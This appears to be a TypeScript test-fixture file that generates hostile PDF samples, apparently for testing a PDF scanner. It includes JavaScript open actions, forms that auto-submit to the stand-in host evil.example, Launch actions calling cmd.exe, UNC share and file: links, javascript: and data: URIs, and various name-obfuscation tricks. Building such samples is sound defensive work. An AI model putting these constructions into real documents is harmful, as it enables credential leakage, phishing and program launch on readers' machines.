import { Buffer } from 'node:buffer';
import { buildPdf, pdfWithObjectStream, SCRIPT, stream } from './pdf.ts';

/** PDFs that hide what they do from a reader that does not look where a viewer looks. */
export type HostilePdf = [name: string, make: () => Buffer];

const OPEN = '/OpenAction 7 0 R';
const share = '\\\\\\\\host\\\\share\\\\cv.pdf';
const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`;
const link = (action: string, ...objects: string[]) =>
  buildPdf({ page: `/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`, objects });
const opening = (action: string, ...objects: (string | Buffer)[]) =>
  buildPdf({ catalog: `/OpenAction << ${action} >>`, objects });

/** Actions that stand in the open, under names and in places that a reader may not look for. */
export const hiddenNames: HostilePdf[] = [
  ['/J#53', () => opening('/S /J#61v#61Script /J#53 (app.alert\\(1\\))')],
  [
    'a key with a byte that is blank to one viewer',
    () => opening('/S /JavaScript\xff/JS\x80(app.alert\\(1\\))'),
  ],
  ['names that end at a zero byte', () => opening('/S /JavaScript#00a /JS#00 (app.alert\\(1\\))')],
  [
    'a script as a stream',
    () => opening('/S /JavaScript /JS 6 0 R', stream('', Buffer.from('app.alert(1)'))),
  ],
  ['an action named by reference', () => opening('/S 6 0 R /JS 7 0 R', '/JavaScript', '(app.alert\\(1\\))')],
  [
    'a name tree',
    () =>
      buildPdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(a) 7 0 R] >>', SCRIPT] }),
  ],
  [
    'a name tree of trees',
    () =>
      buildPdf({
        catalog: '/Names << /JavaScript << /Kids [6 0 R] >> >>',
        objects: ['<< /Limits [(a) (a)] /Names [(a) 7 0 R] >>', SCRIPT],
      }),
  ],
  ['a page that opens', () => buildPdf({ page: `/AA << /O ${SCRIPT} >>` })],
  [
    'a field that is left',
    () =>
      buildPdf({
        catalog: '/AcroForm << /Fields [6 0 R] >>',
        page: '/Annots [6 0 R]',
        objects: [
          `<< /FT /Tx /T (a) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /Bl ${SCRIPT} >> >>`,
        ],
      }),
  ],
  ['a next action', () => opening(`/S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT}`)],
];

export const otherActions: HostilePdf[] = [
  [
    'a form that is sent when opened',
    () => opening('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>'),
  ],
  [
    'a form that is sent, in an object stream',
    () => pdfWithObjectStream(['<< /S /SubmitForm /F (http://evil.example/) >>'], {}, { catalog: OPEN }),
  ],
  ['data that is imported', () => opening('/S /ImportData /F (a.fdf)')],
  ['a start of a program by a link', () => link('/S /Launch /F (cmd.exe)')],
  ['a start of a program, named by reference', () => link('/S 6 0 R /F (cmd.exe)', '/Launch')],
  ['a file on a share', () => opening(`/S /GoToR /F (${share}) /D [0 /Fit]`)],
  [
    'a file on a share, as a description',
    () => opening(`/S /GoToR /F << /Type /Filespec /F (a.pdf) /UF (${share}) >> /D [0 /Fit]`),
  ],
  [
    'a file on a share, in hex',
    () => link('/S /GoToR /F <5c5c686f73745c73686172655c612e706466> /D [0 /Fit]'),
  ],
  ['a file on a share, in UTF-16', () => link(`/S /GoToR /F ${utf16('\\\\host\\share\\a.pdf')} /D [0 /Fit]`)],
  ['a file on a share, in octal', () => link('/S /GoToR /F (\\134\\134host\\134share) /D [0 /Fit]')],
  ['a file on a share, by reference', () => link('/S /GoToR /F 6 0 R /D [0 /Fit]', `(${share})`)],
  ['a file on a share, with slashes', () => link('/S /GoToR /F (//host/share/a.pdf) /D [0 /Fit]')],
  ['an address on a share', () => link(`/S /URI /URI (${share})`)],
  ['an address on a share, with a scheme', () => link('/S /URI /URI (file://host/share/a.pdf)')],
  ['an address on a share, with four slashes', () => link('/S /URI /URI (FILE:////host/share/a.pdf)')],
  ['a search of a share', () => link('/S /URI /URI (search-ms:query=cv&crumb=location:\\\\host\\a)')],
  ['a share for an office program', () => link('/S /URI /URI (ms-word:ofe|u|file://host/a.doc)')],
  ['an article on a share', () => link(`/S /Thread /F (${share}) /D 0`)],
  ['an address that is a script', () => link('/S /URI /URI (javascript:alert\\(1\\))')],
  ['an address that is a script, with blanks', () => link('/S /URI /URI ( java\\nscript:alert\\(1\\))')],
  ...[
    ['a script', 'javascript:', 'alert\\(1\\)'],
    ['a share', '\\\\\\\\host\\\\', 'a.pdf'],
    ['half of a share', '\\\\', '\\\\host\\\\a.pdf'],
    ['the scheme of a share', 'file:', '//host/a.pdf'],
  ].map(
    ([what, base, rest]): HostilePdf => [
      `an address that its file begins with ${what}`,
      () =>
        buildPdf({
          catalog: `/URI << /Base (${base}) >>`,
          page: `/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (${rest}) >> >>]`,
        }),
    ],
  ),
  [
    'a beginning of addresses, by reference',
    () => buildPdf({ catalog: '/URI << /Base 6 0 R >>', objects: ['(file:)'] }),
  ],
  ['an address that opens by itself', () => opening('/S /URI /URI (http://evil.example/)')],
  [
    'an address that opens by itself, by reference',
    () => buildPdf({ catalog: '/OpenAction 6 0 R', objects: ['<< /URI (http://evil.example/) /S /URI >>'] }),
  ],
  [
    'an address that opens by itself, after another action',
    () => opening('/S /GoTo /D [3 0 R /Fit] /Next [6 0 R]', '<< /S /URI /URI (http://evil.example/) >>'),
  ],
  [
    'an address that opens with its page',
    () => buildPdf({ page: '/AA << /O << /S /URI /URI (http://evil.example/) >> >>' }),
  ],
  [
    'an address that opens with its page, by references',
    () =>
      buildPdf({
        page: '/AA 6 0 R',
        objects: ['<< /O 7 0 R >>', '<< /S /URI /URI (http://evil.example/) >>'],
      }),
  ],
  [
    'an address that opens by itself, in an object stream',
    () => pdfWithObjectStream(['<< /S /URI /URI (http://evil.example/) >>'], {}, { catalog: OPEN }),
  ],
  ...['C', 'PC', 'E', 'Fo', 'WC'].map(
    (trigger): HostilePdf => [
      `an address that opens by itself, at /${trigger}`,
      () => buildPdf({ page: `/AA << /${trigger} << /S /URI /URI (http://evil.example/) >> >>` }),
    ],
  ),
  ...[
    ['a list', '[8 0 R]'],
    ['a list that holds the action', '[<< /S /URI /URI (http://evil.example/) >>]'],
    ['a reference', '8 0 R'],
  ].map(
    ([what, between]): HostilePdf => [
      `an address that opens by itself, behind ${what}`,
      () =>
        buildPdf({
          catalog: OPEN,
          objects: ['<< >>', `${between}`, '<< /S /URI /URI (http://evil.example/) >>'],
        }),
    ],
  ),
  ['an address on a share of the web', () => link('/S /URI /URI (davs://host/share/a.pdf)')],
  ['an address that is a page', () => link('/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)')],
  ['an address that is a page in XML', () => link('/S /URI /URI (data:text/xml,<a/>)')],
  ['an address that is a program', () => link('/S /URI /URI (data:application/octet-stream;base64,TVo=)')],
  ['an address on a share, with mixed slashes', () => link('/S /URI /URI (/\\\\host\\\\share\\\\a.pdf)')],
  ['an address on a share, for any program', () => link(`/S /URI /URI (onenote:${share})`)],
  ['an address that is a script by way of a feed', () => link('/S /URI /URI (feed:javascript:alert\\(1\\))')],
  [
    'another file that opens by itself',
    () => opening('/S /GoToR /F << /FS /URL /F (http://evil.example/a.pdf) >> /D [0 /Fit]'),
  ],
  [
    'a file that is related to attached data',
    () =>
      buildPdf({
        catalog: '/AF << /F (a.xml) /EF << /F 6 0 R >> /RF << /F [(a.exe) 7 0 R] >> >>',
        objects: [stream('', Buffer.from('<a/>')), stream('', Buffer.from('MZ'))],
      }),
  ],
  [
    'a file that is related to attached data, by reference',
    () =>
      buildPdf({
        catalog: '/AF << /F (a.xml) /EF << /F 6 0 R >> /RF 8 0 R >>',
        objects: [stream('', Buffer.from('<a/>')), stream('', Buffer.from('MZ')), '<< /F [(a.exe) 7 0 R] >>'],
      }),
  ],
  [
    'a stream in another file',
    () => buildPdf({ objects: [stream('/F (http://evil.example/a)', Buffer.alloc(0))] }),
  ],
  [
    'a stream on a share',
    () => buildPdf({ objects: [stream(`/F << /Type /Filespec /F (${share}) >>`, Buffer.alloc(0))] }),
  ],
  [
    'a stream in a file by reference',
    () => buildPdf({ objects: [stream('/F 7 0 R', Buffer.alloc(0)), '(a)'] }),
  ],
  [
    'a film',
    () => buildPdf({ page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]' }),
  ],
  ['a sound', () => opening('/S /Sound /Sound 6 0 R', stream('/R 8000', Buffer.alloc(9)))],
  ['a rendition with a script', () => opening('/S /Rendition /OP 0 /JS (app.alert\\(1\\))')],
  [
    'a model in three dimensions',
    () => buildPdf({ page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]' }),
  ],
  [
    'a model that nothing shows',
    () => buildPdf({ objects: [stream('/Type /3D /Subtype /U3D', Buffer.from('U3D'))] }),
  ],
  [
    'a film in the list of renditions',
    () => buildPdf({ objects: ['<< /Type /Rendition /S /MR /C << /S /MCD /D (a.mp4) >> >>'] }),
  ],
  ['a rich medium', () => buildPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })],
  [
    'a form in XML',
    () =>
      buildPdf({
        catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        objects: [stream('', Buffer.from('<xdp:xdp/>'))],
      }),
  ],
  ['a target in an embedded file', () => opening('/S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit]')],
];
